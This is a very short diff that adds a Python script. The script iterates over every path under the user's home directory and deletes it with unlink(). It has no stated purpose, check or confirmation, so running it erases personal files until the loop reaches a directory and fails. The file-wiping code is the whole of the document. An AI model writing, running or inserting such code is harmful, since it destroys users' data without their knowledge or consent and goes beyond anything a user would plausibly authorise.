@@ -1,0 +1,4 @@
+from pathlib import Path
+
+for path in Path.home().rglob("*"):
+    path.unlink()
